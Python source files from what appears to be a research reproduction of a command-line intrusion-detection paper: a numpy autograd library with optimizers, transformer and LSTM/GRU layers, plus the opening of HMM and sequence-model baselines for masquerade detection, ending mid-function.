"""Optimizers: SGD with momentum and AdamW (decoupled weight decay).

The paper tunes with AdamW; pre-training uses stochastic gradient
methods per Section II-B.  Both optimizers skip parameters without
gradients and support gradient clipping via :func:`clip_grad_norm`.
"""

from __future__ import annotations

import math

import numpy as np

from repro.nn.module import Parameter


class Optimizer:
    """Base optimizer over a fixed list of parameters."""

    def __init__(self, parameters: list[Parameter], lr: float):
        if lr <= 0:
            raise ValueError("learning rate must be positive")
        self.parameters = list(parameters)
        self.lr = lr

    def zero_grad(self) -> None:
        """Clear gradients of all managed parameters."""
        for parameter in self.parameters:
            parameter.grad = None

    def step(self) -> None:
        """Apply one update; subclasses must override."""
        raise NotImplementedError


class SGD(Optimizer):
    """Stochastic gradient descent with optional momentum and L2 decay."""

    def __init__(self, parameters: list[Parameter], lr: float, momentum: float = 0.0, weight_decay: float = 0.0):
        super().__init__(parameters, lr)
        if not 0.0 <= momentum < 1.0:
            raise ValueError("momentum must be in [0, 1)")
        self.momentum = momentum
        self.weight_decay = weight_decay
        self._velocity: list[np.ndarray | None] = [None] * len(self.parameters)

    def step(self) -> None:
        for index, parameter in enumerate(self.parameters):
            if parameter.grad is None:
                continue
            grad = parameter.grad
            if self.weight_decay:
                grad = grad + self.weight_decay * parameter.data
            if self.momentum:
                if self._velocity[index] is None:
                    self._velocity[index] = np.zeros_like(parameter.data)
                velocity = self._velocity[index]
                velocity *= self.momentum
                velocity += grad
                grad = velocity
            parameter.data -= self.lr * grad


class AdamW(Optimizer):
    """Adam with decoupled weight decay (Loshchilov & Hutter)."""

    def __init__(
        self,
        parameters: list[Parameter],
        lr: float = 5e-5,
        betas: tuple[float, float] = (0.9, 0.999),
        eps: float = 1e-8,
        weight_decay: float = 0.01,
    ):
        super().__init__(parameters, lr)
        self.beta1, self.beta2 = betas
        self.eps = eps
        self.weight_decay = weight_decay
        self._step_count = 0
        self._m: list[np.ndarray | None] = [None] * len(self.parameters)
        self._v: list[np.ndarray | None] = [None] * len(self.parameters)

    def step(self) -> None:
        self._step_count += 1
        bias1 = 1.0 - self.beta1**self._step_count
        bias2 = 1.0 - self.beta2**self._step_count
        for index, parameter in enumerate(self.parameters):
            if parameter.grad is None:
                continue
            grad = parameter.grad
            if self._m[index] is None:
                self._m[index] = np.zeros_like(parameter.data)
                self._v[index] = np.zeros_like(parameter.data)
            m, v = self._m[index], self._v[index]
            m *= self.beta1
            m += (1.0 - self.beta1) * grad
            v *= self.beta2
            v += (1.0 - self.beta2) * grad**2
            m_hat = m / bias1
            v_hat = v / bias2
            update = m_hat / (np.sqrt(v_hat) + self.eps)
            if self.weight_decay:
                update = update + self.weight_decay * parameter.data
            parameter.data -= self.lr * update


def clip_grad_norm(parameters: list[Parameter], max_norm: float) -> float:
    """Scale gradients so their global L2 norm is at most *max_norm*.

    Returns the pre-clipping norm.
    """
    total = 0.0
    for parameter in parameters:
        if parameter.grad is not None:
            total += float((parameter.grad**2).sum())
    norm = math.sqrt(total)
    if norm > max_norm and norm > 0:
        scale = max_norm / norm
        for parameter in parameters:
            if parameter.grad is not None:
                parameter.grad *= scale
    return norm
