"""Module/Parameter containers for the numpy NN substrate.

A :class:`Module` discovers its parameters by introspecting attributes:
any :class:`Parameter`, nested :class:`Module`, or list of modules is
collected recursively, yielding dotted names for checkpoints.
"""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager

import numpy as np

from repro.errors import CheckpointError
from repro.nn.tensor import Tensor


class Parameter(Tensor):
    """A trainable tensor (``requires_grad=True`` by construction)."""

    def __init__(self, data, name: str | None = None):
        super().__init__(data, requires_grad=True, name=name)


class Module:
    """Base class for neural-network building blocks.

    Subclasses assign :class:`Parameter` and nested :class:`Module`
    instances as attributes; :meth:`parameters` and :meth:`state_dict`
    find them automatically.  ``training`` toggles dropout behaviour via
    :meth:`train` / :meth:`eval`.
    """

    def __init__(self):
        self.training = True

    # -- traversal ------------------------------------------------------

    def named_parameters(self, prefix: str = "") -> Iterator[tuple[str, Parameter]]:
        """Yield ``(dotted_name, parameter)`` pairs, depth first."""
        for attr, value in vars(self).items():
            if attr.startswith("_module_cache"):
                continue
            name = f"{prefix}{attr}"
            if isinstance(value, Parameter):
                yield name, value
            elif isinstance(value, Module):
                yield from value.named_parameters(f"{name}.")
            elif isinstance(value, (list, tuple)):
                for index, item in enumerate(value):
                    if isinstance(item, Module):
                        yield from item.named_parameters(f"{name}.{index}.")
                    elif isinstance(item, Parameter):
                        yield f"{name}.{index}", item

    def parameters(self) -> list[Parameter]:
        """All parameters of this module and its children."""
        return [p for _, p in self.named_parameters()]

    def modules(self) -> Iterator["Module"]:
        """Yield this module and every descendant module."""
        yield self
        for value in vars(self).values():
            if isinstance(value, Module):
                yield from value.modules()
            elif isinstance(value, (list, tuple)):
                for item in value:
                    if isinstance(item, Module):
                        yield from item.modules()

    # -- training state --------------------------------------------------

    def train(self) -> "Module":
        """Put this module (and children) in training mode."""
        for module in self.modules():
            module.training = True
        return self

    def eval(self) -> "Module":
        """Put this module (and children) in evaluation mode."""
        for module in self.modules():
            module.training = False
        return self

    def zero_grad(self) -> None:
        """Clear gradients of all parameters."""
        for parameter in self.parameters():
            parameter.grad = None

    def num_parameters(self) -> int:
        """Total scalar parameter count."""
        return sum(p.size for p in self.parameters())

    # -- checkpointing ----------------------------------------------------

    def state_dict(self) -> dict[str, np.ndarray]:
        """Copy of every parameter array, keyed by dotted name."""
        return {name: parameter.data.copy() for name, parameter in self.named_parameters()}

    def load_state_dict(self, state: dict[str, np.ndarray]) -> None:
        """Restore parameters from :meth:`state_dict` output.

        Raises
        ------
        CheckpointError
            On missing keys or shape mismatches.
        """
        own = dict(self.named_parameters())
        missing = sorted(set(own) - set(state))
        unexpected = sorted(set(state) - set(own))
        if missing or unexpected:
            raise CheckpointError(f"state mismatch: missing={missing}, unexpected={unexpected}")
        for name, parameter in own.items():
            value = np.asarray(state[name], dtype=np.float64)
            if value.shape != parameter.data.shape:
                raise CheckpointError(
                    f"shape mismatch for {name}: checkpoint {value.shape}, model {parameter.data.shape}"
                )
            parameter.data = value.copy()

    # -- call protocol ----------------------------------------------------

    def forward(self, *args, **kwargs):
        """Compute the module output; subclasses must override."""
        raise NotImplementedError

    def __call__(self, *args, **kwargs):
        return self.forward(*args, **kwargs)


@contextmanager
def no_grad(*modules: Module):
    """Temporarily disable gradient tracking for the given modules.

    Inside the context, forward passes build no autograd graph, which
    makes inference-only workloads (e.g. embedding extraction) faster
    and lighter on memory.
    """
    parameters = [p for module in modules for p in module.parameters()]
    saved = [p.requires_grad for p in parameters]
    for parameter in parameters:
        parameter.requires_grad = False
    try:
        yield
    finally:
        for parameter, flag in zip(parameters, saved):
            parameter.requires_grad = flag
