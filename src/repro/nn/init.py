"""Weight initialization schemes.

Includes Kaiming (He et al., 2015) initialization, which the paper uses
for the classification head, plus Xavier/Glorot and truncated-normal
(BERT's default) schemes.
"""

from __future__ import annotations

import math

import numpy as np


def kaiming_uniform(shape: tuple[int, ...], rng: np.random.Generator, fan_in: int | None = None) -> np.ndarray:
    """He-uniform initialization: ``U(-b, b)`` with ``b = sqrt(6 / fan_in)``."""
    if fan_in is None:
        fan_in = shape[0]
    bound = math.sqrt(6.0 / fan_in)
    return rng.uniform(-bound, bound, size=shape)


def kaiming_normal(shape: tuple[int, ...], rng: np.random.Generator, fan_in: int | None = None) -> np.ndarray:
    """He-normal initialization: ``N(0, 2 / fan_in)``."""
    if fan_in is None:
        fan_in = shape[0]
    std = math.sqrt(2.0 / fan_in)
    return rng.normal(0.0, std, size=shape)


def xavier_uniform(shape: tuple[int, ...], rng: np.random.Generator) -> np.ndarray:
    """Glorot-uniform initialization over (fan_in + fan_out)."""
    fan_in, fan_out = shape[0], shape[-1]
    bound = math.sqrt(6.0 / (fan_in + fan_out))
    return rng.uniform(-bound, bound, size=shape)


def truncated_normal(shape: tuple[int, ...], rng: np.random.Generator, std: float = 0.02) -> np.ndarray:
    """BERT-style truncated normal: resample draws beyond two std devs."""
    values = rng.normal(0.0, std, size=shape)
    bad = np.abs(values) > 2 * std
    while bad.any():
        values[bad] = rng.normal(0.0, std, size=int(bad.sum()))
        bad = np.abs(values) > 2 * std
    return values
