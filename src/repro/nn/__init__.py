"""A numpy-based deep-learning substrate with reverse-mode autodiff.

This package supplies everything the command-line language model needs:
tensors with backpropagation, transformer layers, optimizers, learning
rate schedules, initialization, and checkpoint IO — with no dependency
beyond numpy.

Public surface:

- :class:`Tensor` and :mod:`repro.nn.functional` — autograd core.
- :class:`Module` / :class:`Parameter` — model containers.
- :class:`Linear`, :class:`Embedding`, :class:`LayerNorm`,
  :class:`Dropout`, :class:`MLP` — layers.
- :class:`MultiHeadSelfAttention`, :class:`TransformerBlock`,
  :class:`TransformerEncoder` — the transformer (Vaswani et al.).
- :class:`SGD`, :class:`AdamW`, :func:`clip_grad_norm` — optimizers.
- :class:`WarmupLinearSchedule`, :class:`CosineSchedule` — LR schedules.
- :func:`save_module` / :func:`load_module` — checkpointing.
- :func:`check_gradient` — numerical gradient validation.
- :class:`InferencePlan` — graph-free compiled serving forward.
"""

from repro.nn import functional
from repro.nn.attention import MultiHeadSelfAttention
from repro.nn.gradcheck import check_gradient, numerical_gradient
from repro.nn.inference import InferenceCompileError, InferencePlan
from repro.nn.layers import MLP, Dropout, Embedding, LayerNorm, Linear
from repro.nn.module import Module, Parameter, no_grad
from repro.nn.optim import SGD, AdamW, Optimizer, clip_grad_norm
from repro.nn.schedule import ConstantSchedule, CosineSchedule, LRSchedule, WarmupLinearSchedule
from repro.nn.serialization import load_module, save_module
from repro.nn.tensor import Tensor, ones, zeros
from repro.nn.transformer import TransformerBlock, TransformerEncoder

__all__ = [
    "AdamW",
    "ConstantSchedule",
    "CosineSchedule",
    "Dropout",
    "Embedding",
    "InferenceCompileError",
    "InferencePlan",
    "LRSchedule",
    "LayerNorm",
    "Linear",
    "MLP",
    "Module",
    "MultiHeadSelfAttention",
    "Optimizer",
    "Parameter",
    "SGD",
    "Tensor",
    "TransformerBlock",
    "TransformerEncoder",
    "WarmupLinearSchedule",
    "check_gradient",
    "clip_grad_norm",
    "functional",
    "load_module",
    "no_grad",
    "numerical_gradient",
    "ones",
    "save_module",
    "zeros",
]
