"""Learning-rate schedules for pre-training and fine-tuning."""

from __future__ import annotations

import math


class LRSchedule:
    """Base class: maps a step index to a learning rate."""

    def lr_at(self, step: int) -> float:
        """Learning rate for optimizer step *step* (0-based)."""
        raise NotImplementedError


class ConstantSchedule(LRSchedule):
    """A fixed learning rate."""

    def __init__(self, lr: float):
        self.lr = lr

    def lr_at(self, step: int) -> float:
        return self.lr


class WarmupLinearSchedule(LRSchedule):
    """Linear warmup to ``peak_lr`` then linear decay to zero (BERT's recipe)."""

    def __init__(self, peak_lr: float, warmup_steps: int, total_steps: int):
        if warmup_steps < 0 or total_steps <= 0:
            raise ValueError("warmup_steps must be >= 0 and total_steps > 0")
        if warmup_steps > total_steps:
            raise ValueError("warmup_steps cannot exceed total_steps")
        self.peak_lr = peak_lr
        self.warmup_steps = warmup_steps
        self.total_steps = total_steps

    def lr_at(self, step: int) -> float:
        if self.warmup_steps and step < self.warmup_steps:
            return self.peak_lr * (step + 1) / self.warmup_steps
        remaining = max(self.total_steps - step, 0)
        denominator = max(self.total_steps - self.warmup_steps, 1)
        return self.peak_lr * remaining / denominator


class CosineSchedule(LRSchedule):
    """Linear warmup followed by cosine decay to ``floor_lr``."""

    def __init__(self, peak_lr: float, warmup_steps: int, total_steps: int, floor_lr: float = 0.0):
        if warmup_steps > total_steps:
            raise ValueError("warmup_steps cannot exceed total_steps")
        self.peak_lr = peak_lr
        self.warmup_steps = warmup_steps
        self.total_steps = total_steps
        self.floor_lr = floor_lr

    def lr_at(self, step: int) -> float:
        if self.warmup_steps and step < self.warmup_steps:
            return self.peak_lr * (step + 1) / self.warmup_steps
        progress = min(max(step - self.warmup_steps, 0) / max(self.total_steps - self.warmup_steps, 1), 1.0)
        cosine = 0.5 * (1.0 + math.cos(math.pi * progress))
        return self.floor_lr + (self.peak_lr - self.floor_lr) * cosine
