"""Transformer encoder blocks and stacks (post-norm, as in BERT)."""

from __future__ import annotations

import numpy as np

from repro.nn import functional as F
from repro.nn.attention import MultiHeadSelfAttention
from repro.nn.layers import Dropout, LayerNorm, Linear
from repro.nn.module import Module
from repro.nn.tensor import Array, Tensor


class TransformerBlock(Module):
    """One encoder block: self-attention and a GELU feed-forward network,
    each wrapped in residual + post-layer-norm (the BERT arrangement)."""

    def __init__(
        self,
        hidden_size: int,
        n_heads: int,
        intermediate_size: int,
        rng: np.random.Generator,
        dropout: float = 0.0,
    ):
        super().__init__()
        self.attention = MultiHeadSelfAttention(hidden_size, n_heads, rng, dropout=dropout)
        self.attention_norm = LayerNorm(hidden_size)
        self.ffn_in = Linear(hidden_size, intermediate_size, rng)
        self.ffn_out = Linear(intermediate_size, hidden_size, rng)
        self.ffn_norm = LayerNorm(hidden_size)
        self.dropout1 = Dropout(dropout, np.random.default_rng(rng.integers(2**31)))
        self.dropout2 = Dropout(dropout, np.random.default_rng(rng.integers(2**31)))

    def forward(self, x: Tensor, attention_mask: Array | None = None) -> Tensor:
        attended = self.dropout1(self.attention(x, attention_mask))
        x = self.attention_norm(x + attended)
        transformed = self.dropout2(self.ffn_out(F.gelu(self.ffn_in(x))))
        return self.ffn_norm(x + transformed)


class TransformerEncoder(Module):
    """A stack of :class:`TransformerBlock` modules."""

    def __init__(
        self,
        n_layers: int,
        hidden_size: int,
        n_heads: int,
        intermediate_size: int,
        rng: np.random.Generator,
        dropout: float = 0.0,
    ):
        super().__init__()
        self.blocks = [
            TransformerBlock(hidden_size, n_heads, intermediate_size, rng, dropout=dropout)
            for _ in range(n_layers)
        ]

    def forward(self, x: Tensor, attention_mask: Array | None = None) -> Tensor:
        for block in self.blocks:
            x = block(x, attention_mask)
        return x
