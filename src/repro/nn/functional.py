"""Fused differentiable operations built on :class:`~repro.nn.tensor.Tensor`.

These primitives get hand-derived backward rules either for numerical
stability (softmax, cross-entropy, layer norm) or because they cannot be
composed from arithmetic (embedding gather, dropout masking).
"""

from __future__ import annotations

import math

import numpy as np

from repro.nn.tensor import Array, Tensor

_SQRT_2_OVER_PI = math.sqrt(2.0 / math.pi)


def gelu(x: Tensor) -> Tensor:
    """Gaussian Error Linear Unit (tanh approximation, as in BERT)."""
    inner_data = _SQRT_2_OVER_PI * (x.data + 0.044715 * x.data**3)
    tanh_inner = np.tanh(inner_data)
    data = 0.5 * x.data * (1.0 + tanh_inner)

    def backward(grad: Array):
        sech2 = 1.0 - tanh_inner**2
        d_inner = _SQRT_2_OVER_PI * (1.0 + 3 * 0.044715 * x.data**2)
        local = 0.5 * (1.0 + tanh_inner) + 0.5 * x.data * sech2 * d_inner
        return (grad * local,)

    return Tensor._make(data, (x,), backward)


def softmax(x: Tensor, axis: int = -1) -> Tensor:
    """Numerically stable softmax along *axis*."""
    shifted = x.data - x.data.max(axis=axis, keepdims=True)
    exp = np.exp(shifted)
    data = exp / exp.sum(axis=axis, keepdims=True)

    def backward(grad: Array):
        dot = (grad * data).sum(axis=axis, keepdims=True)
        return (data * (grad - dot),)

    return Tensor._make(data, (x,), backward)


def log_softmax(x: Tensor, axis: int = -1) -> Tensor:
    """Numerically stable log-softmax along *axis*."""
    shifted = x.data - x.data.max(axis=axis, keepdims=True)
    log_norm = np.log(np.exp(shifted).sum(axis=axis, keepdims=True))
    data = shifted - log_norm

    def backward(grad: Array):
        soft = np.exp(data)
        return (grad - soft * grad.sum(axis=axis, keepdims=True),)

    return Tensor._make(data, (x,), backward)


def cross_entropy(logits: Tensor, targets: Array, ignore_index: int | None = None) -> Tensor:
    """Mean cross-entropy of *logits* against integer *targets*.

    Parameters
    ----------
    logits:
        Shape ``(..., n_classes)``.
    targets:
        Integer array of shape ``(...,)`` (same leading shape as logits).
    ignore_index:
        Target value excluded from the loss (used for non-masked MLM
        positions and padding).

    Returns
    -------
    Tensor
        Scalar mean loss over the non-ignored positions.  When every
        position is ignored the loss is exactly zero.
    """
    targets = np.asarray(targets)
    flat_logits = logits.data.reshape(-1, logits.shape[-1])
    flat_targets = targets.reshape(-1)
    if ignore_index is not None:
        valid = flat_targets != ignore_index
    else:
        valid = np.ones(flat_targets.shape, dtype=bool)
    count = int(valid.sum())
    shifted = flat_logits - flat_logits.max(axis=-1, keepdims=True)
    log_norm = np.log(np.exp(shifted).sum(axis=-1, keepdims=True))
    log_probs = shifted - log_norm
    if count == 0:
        data = np.zeros(())
    else:
        rows = np.nonzero(valid)[0]
        picked = log_probs[rows, flat_targets[rows]]
        data = -picked.sum() / count

    def backward(grad: Array):
        if count == 0:
            return (np.zeros_like(logits.data),)
        soft = np.exp(log_probs)
        rows = np.nonzero(valid)[0]
        soft[rows, flat_targets[rows]] -= 1.0
        soft[~valid] = 0.0
        out = (soft / count) * np.asarray(grad)
        return (out.reshape(logits.shape),)

    return Tensor._make(data, (logits,), backward)


def binary_cross_entropy_with_logits(logits: Tensor, targets: Array) -> Tensor:
    """Mean binary cross-entropy on raw *logits* against 0/1 *targets*."""
    targets = np.asarray(targets, dtype=np.float64)
    z = logits.data
    # log(1 + exp(-|z|)) formulation for stability
    data = (np.maximum(z, 0.0) - z * targets + np.log1p(np.exp(-np.abs(z)))).mean()

    def backward(grad: Array):
        sig = 1.0 / (1.0 + np.exp(-z))
        return ((sig - targets) * np.asarray(grad) / z.size,)

    return Tensor._make(np.asarray(data), (logits,), backward)


def embedding(weight: Tensor, ids: Array) -> Tensor:
    """Row gather: ``weight[ids]`` with sparse gradient accumulation."""
    ids = np.asarray(ids)
    data = weight.data[ids]

    def backward(grad: Array):
        full = np.zeros_like(weight.data)
        np.add.at(full, ids.reshape(-1), grad.reshape(-1, weight.shape[-1]))
        return (full,)

    return Tensor._make(data, (weight,), backward)


def layer_norm(x: Tensor, gamma: Tensor, beta: Tensor, eps: float = 1e-5) -> Tensor:
    """Layer normalization over the last axis with scale/shift."""
    mu = x.data.mean(axis=-1, keepdims=True)
    centered = x.data - mu
    var = (centered**2).mean(axis=-1, keepdims=True)
    inv_std = 1.0 / np.sqrt(var + eps)
    x_hat = centered * inv_std
    data = x_hat * gamma.data + beta.data

    def backward(grad: Array):
        n = x.shape[-1]
        d_xhat = grad * gamma.data
        d_var_term = (d_xhat * x_hat).sum(axis=-1, keepdims=True)
        d_mean_term = d_xhat.sum(axis=-1, keepdims=True)
        dx = inv_std * (d_xhat - d_mean_term / n - x_hat * d_var_term / n)
        d_gamma = (grad * x_hat).reshape(-1, n).sum(axis=0)
        d_beta = grad.reshape(-1, n).sum(axis=0)
        return (dx, d_gamma.reshape(gamma.shape), d_beta.reshape(beta.shape))

    return Tensor._make(data, (x, gamma, beta), backward)


def dropout(x: Tensor, p: float, rng: np.random.Generator, training: bool = True) -> Tensor:
    """Inverted dropout: zero elements with probability *p* during training."""
    if not training or p <= 0.0:
        return x
    if not 0.0 <= p < 1.0:
        raise ValueError("dropout probability must be in [0, 1)")
    keep = 1.0 - p
    mask = (rng.random(x.shape) < keep).astype(np.float64) / keep
    data = x.data * mask

    def backward(grad: Array):
        return (grad * mask,)

    return Tensor._make(data, (x,), backward)


def add_bias(x: Tensor, mask_value: Array) -> Tensor:
    """Add a constant (non-differentiated) array, e.g. an attention mask."""
    data = x.data + mask_value

    def backward(grad: Array):
        return (grad,)

    return Tensor._make(data, (x,), backward)


def concatenate(tensors: list[Tensor], axis: int = 0) -> Tensor:
    """Concatenate tensors along *axis*, differentiable."""
    data = np.concatenate([t.data for t in tensors], axis=axis)
    sizes = [t.shape[axis] for t in tensors]
    offsets = np.cumsum([0, *sizes])

    def backward(grad: Array):
        slices = []
        for i in range(len(tensors)):
            index: list = [slice(None)] * grad.ndim
            index[axis] = slice(offsets[i], offsets[i + 1])
            slices.append(grad[tuple(index)])
        return tuple(slices)

    return Tensor._make(data, tuple(tensors), backward)


def stack(tensors: list[Tensor], axis: int = 0) -> Tensor:
    """Stack tensors along a new *axis*, differentiable."""
    data = np.stack([t.data for t in tensors], axis=axis)

    def backward(grad: Array):
        return tuple(np.take(grad, i, axis=axis) for i in range(len(tensors)))

    return Tensor._make(data, tuple(tensors), backward)
