"""Multi-head self-attention (Vaswani et al., 2017)."""

from __future__ import annotations

import math

import numpy as np

from repro.nn import functional as F
from repro.nn.layers import Dropout, Linear
from repro.nn.module import Module
from repro.nn.tensor import Array, Tensor

#: Additive mask value for padded key positions (large negative, finite
#: to keep float64 softmax well-behaved).
NEG_INF = -1e9


class MultiHeadSelfAttention(Module):
    """Scaled dot-product self-attention with ``n_heads`` heads.

    Input ``(B, T, D)`` → output ``(B, T, D)``; an optional boolean
    attention mask of shape ``(B, T)`` marks *valid* (non-padding)
    positions.
    """

    def __init__(self, hidden_size: int, n_heads: int, rng: np.random.Generator, dropout: float = 0.0):
        super().__init__()
        if hidden_size % n_heads != 0:
            raise ValueError(f"hidden_size {hidden_size} not divisible by n_heads {n_heads}")
        self.hidden_size = hidden_size
        self.n_heads = n_heads
        self.head_dim = hidden_size // n_heads
        self.query = Linear(hidden_size, hidden_size, rng)
        self.key = Linear(hidden_size, hidden_size, rng)
        self.value = Linear(hidden_size, hidden_size, rng)
        self.output = Linear(hidden_size, hidden_size, rng)
        self.attn_dropout = Dropout(dropout, np.random.default_rng(rng.integers(2**31)))

    def _split_heads(self, x: Tensor, batch: int, seq: int) -> Tensor:
        # (B, T, D) -> (B, H, T, d)
        return x.reshape(batch, seq, self.n_heads, self.head_dim).transpose(0, 2, 1, 3)

    def forward(self, x: Tensor, attention_mask: Array | None = None) -> Tensor:
        batch, seq, _ = x.shape
        q = self._split_heads(self.query(x), batch, seq)
        k = self._split_heads(self.key(x), batch, seq)
        v = self._split_heads(self.value(x), batch, seq)
        scores = (q @ k.transpose(0, 1, 3, 2)) * (1.0 / math.sqrt(self.head_dim))
        if attention_mask is not None:
            mask = np.asarray(attention_mask, dtype=bool)
            additive = np.where(mask, 0.0, NEG_INF)[:, None, None, :]
            scores = F.add_bias(scores, additive)
        weights = F.softmax(scores, axis=-1)
        if self.attn_dropout.training and self.attn_dropout.p > 0.0:
            weights = self.attn_dropout(weights)
        context = weights @ v  # (B, H, T, d)
        merged = context.transpose(0, 2, 1, 3).reshape(batch, seq, self.hidden_size)
        return self.output(merged)
