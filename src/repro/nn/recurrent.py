"""Recurrent layers (LSTM / GRU) on the autograd substrate.

These back the sequence-to-sequence baseline of Liu & Mao (2022), which
the paper cites as representative prior work: an RNN that predicts the
next command given the history, flagging users whose behaviour the model
finds surprising.  Cells are written step-wise over the autograd ops, so
backpropagation-through-time falls out of the tape.
"""

from __future__ import annotations

import numpy as np

from repro.nn import functional as F
from repro.nn.init import xavier_uniform
from repro.nn.module import Module, Parameter
from repro.nn.tensor import Array, Tensor


class LSTMCell(Module):
    """A single LSTM cell: input (B, I), state ((B, H), (B, H))."""

    def __init__(self, input_size: int, hidden_size: int, rng: np.random.Generator):
        super().__init__()
        self.input_size = input_size
        self.hidden_size = hidden_size
        # gates stacked as [input, forget, cell, output] for one matmul
        self.w_x = Parameter(xavier_uniform((input_size, 4 * hidden_size), rng), name="w_x")
        self.w_h = Parameter(xavier_uniform((hidden_size, 4 * hidden_size), rng), name="w_h")
        bias = np.zeros(4 * hidden_size)
        bias[hidden_size : 2 * hidden_size] = 1.0  # forget-gate bias trick
        self.bias = Parameter(bias, name="bias")

    def forward(self, x: Tensor, state: tuple[Tensor, Tensor]) -> tuple[Tensor, Tensor]:
        hidden, cell = state
        gates = x @ self.w_x + hidden @ self.w_h + self.bias
        h = self.hidden_size
        i_gate = gates[:, 0 * h : 1 * h].sigmoid()
        f_gate = gates[:, 1 * h : 2 * h].sigmoid()
        g_gate = gates[:, 2 * h : 3 * h].tanh()
        o_gate = gates[:, 3 * h : 4 * h].sigmoid()
        new_cell = f_gate * cell + i_gate * g_gate
        new_hidden = o_gate * new_cell.tanh()
        return new_hidden, new_cell

    def initial_state(self, batch: int) -> tuple[Tensor, Tensor]:
        """Zero state for a batch of the given size."""
        return Tensor(np.zeros((batch, self.hidden_size))), Tensor(np.zeros((batch, self.hidden_size)))


class GRUCell(Module):
    """A single GRU cell: input (B, I), state (B, H)."""

    def __init__(self, input_size: int, hidden_size: int, rng: np.random.Generator):
        super().__init__()
        self.input_size = input_size
        self.hidden_size = hidden_size
        self.w_x = Parameter(xavier_uniform((input_size, 3 * hidden_size), rng), name="w_x")
        self.w_h = Parameter(xavier_uniform((hidden_size, 3 * hidden_size), rng), name="w_h")
        self.bias = Parameter(np.zeros(3 * hidden_size), name="bias")

    def forward(self, x: Tensor, hidden: Tensor) -> Tensor:
        h = self.hidden_size
        projected_x = x @ self.w_x + self.bias
        projected_h = hidden @ self.w_h
        reset = (projected_x[:, 0:h] + projected_h[:, 0:h]).sigmoid()
        update = (projected_x[:, h : 2 * h] + projected_h[:, h : 2 * h]).sigmoid()
        candidate = (projected_x[:, 2 * h : 3 * h] + reset * projected_h[:, 2 * h : 3 * h]).tanh()
        return update * hidden + (1.0 - update) * candidate

    def initial_state(self, batch: int) -> Tensor:
        """Zero state for a batch of the given size."""
        return Tensor(np.zeros((batch, self.hidden_size)))


class LSTM(Module):
    """Unidirectional LSTM over (B, T, I); returns all hidden states.

    Example
    -------
    >>> import numpy as np
    >>> lstm = LSTM(4, 8, np.random.default_rng(0))
    >>> out = lstm(Tensor(np.zeros((2, 5, 4))))
    >>> out.shape
    (2, 5, 8)
    """

    def __init__(self, input_size: int, hidden_size: int, rng: np.random.Generator):
        super().__init__()
        self.cell = LSTMCell(input_size, hidden_size, rng)
        self.hidden_size = hidden_size

    def forward(
        self, x: Tensor, state: tuple[Tensor, Tensor] | None = None
    ) -> Tensor:
        batch, steps, _ = x.shape
        if state is None:
            state = self.cell.initial_state(batch)
        hidden, cell = state
        outputs: list[Tensor] = []
        for t in range(steps):
            hidden, cell = self.cell(x[:, t, :], (hidden, cell))
            outputs.append(hidden)
        return F.stack(outputs, axis=1)

    def last_hidden(self, x: Tensor, lengths: Array | None = None) -> Tensor:
        """Hidden state at the final (or per-row ``lengths``-th) step."""
        outputs = self.forward(x)
        if lengths is None:
            return outputs[:, -1, :]
        rows = np.arange(outputs.shape[0])
        return outputs[rows, np.asarray(lengths) - 1, :]
