"""Related-work baselines (Section VI).

The paper positions itself against three families of prior
learning-based command-line IDS work; all are implemented here so the
comparison experiment can demonstrate the limitation the paper claims —
per-user profile methods degrade on the new/short-history users that
dominate cloud telemetry:

- :class:`LaneBrodleyProfiler` — Lane & Brodley (1997): per-user token
  profiles with similarity scoring.
- :class:`HMMProfileDetector` / :class:`DiscreteHMM` — Huang & Stamp
  (2011): profile hidden Markov models (Baum–Welch from scratch).
- :class:`Seq2SeqBaseline` — Liu & Mao (2022): LSTM next-command
  prediction, scoring by surprisal.
"""

from repro.baselines.hmm_profile import DiscreteHMM, HMMProfileDetector
from repro.baselines.lane_brodley import LaneBrodleyProfiler
from repro.baselines.seq2seq import Seq2SeqBaseline

__all__ = [
    "DiscreteHMM",
    "HMMProfileDetector",
    "LaneBrodleyProfiler",
    "Seq2SeqBaseline",
]
