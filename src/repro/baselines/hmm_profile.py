"""Huang & Stamp (2011): masquerade detection with profile hidden Markov models.

The related-work section cites this approach: align each user's command
sequences and train a profile HMM; low likelihood under the profile
flags a masquerader.  The reproduction implements a discrete HMM from
scratch — scaled-likelihood forward algorithm and Baum–Welch training —
over command-name symbol sequences, plus the per-user profiling wrapper
("Huang et al.'s only utilizes command names").
"""

from __future__ import annotations

from collections import defaultdict
from collections.abc import Sequence

import numpy as np

from repro.errors import NotFittedError
from repro.loggen.dataset import CommandDataset
from repro.shell.extract import CommandExtractor


class DiscreteHMM:
    """A discrete-emission hidden Markov model.

    Parameters
    ----------
    n_states:
        Hidden state count.
    n_symbols:
        Emission alphabet size.
    seed:
        Initialization seed (random row-stochastic matrices).
    """

    def __init__(self, n_states: int, n_symbols: int, seed: int = 0):
        if n_states < 1 or n_symbols < 1:
            raise ValueError("n_states and n_symbols must be >= 1")
        rng = np.random.default_rng(seed)
        self.n_states = n_states
        self.n_symbols = n_symbols
        self.start = self._stochastic(rng.random(n_states))
        self.transition = np.apply_along_axis(self._stochastic, 1, rng.random((n_states, n_states)))
        self.emission = np.apply_along_axis(self._stochastic, 1, rng.random((n_states, n_symbols)))

    @staticmethod
    def _stochastic(values: np.ndarray) -> np.ndarray:
        values = values + 1e-3
        return values / values.sum()

    # -- inference ---------------------------------------------------------

    def _forward(self, sequence: np.ndarray) -> tuple[np.ndarray, np.ndarray]:
        """Scaled forward pass; returns (alpha, scales)."""
        steps = len(sequence)
        alpha = np.zeros((steps, self.n_states))
        scales = np.zeros(steps)
        alpha[0] = self.start * self.emission[:, sequence[0]]
        scales[0] = alpha[0].sum() or 1e-300
        alpha[0] /= scales[0]
        for t in range(1, steps):
            alpha[t] = (alpha[t - 1] @ self.transition) * self.emission[:, sequence[t]]
            scales[t] = alpha[t].sum() or 1e-300
            alpha[t] /= scales[t]
        return alpha, scales

    def _backward(self, sequence: np.ndarray, scales: np.ndarray) -> np.ndarray:
        steps = len(sequence)
        beta = np.zeros((steps, self.n_states))
        beta[-1] = 1.0
        for t in range(steps - 2, -1, -1):
            beta[t] = (self.transition * self.emission[:, sequence[t + 1]] * beta[t + 1]).sum(axis=1)
            beta[t] /= scales[t + 1]
        return beta

    def log_likelihood(self, sequence: Sequence[int]) -> float:
        """Log P(sequence) under the model."""
        seq = np.asarray(sequence, dtype=np.int64)
        if seq.size == 0:
            return 0.0
        _, scales = self._forward(seq)
        return float(np.log(scales).sum())

    def per_symbol_log_likelihood(self, sequence: Sequence[int]) -> float:
